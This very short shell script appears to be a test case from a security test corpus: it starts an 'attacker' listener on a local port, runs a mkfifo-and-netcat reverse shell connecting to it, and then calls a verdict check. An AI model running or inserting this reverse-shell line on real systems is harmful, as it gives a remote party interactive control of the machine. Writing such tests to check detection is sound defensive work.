. "$CORPUS/lib/common.sh"
attacker listen 31003
mkfifo f
sh <f 2>&1 | nc.openbsd 127.0.0.1 31003 >f &
verdict
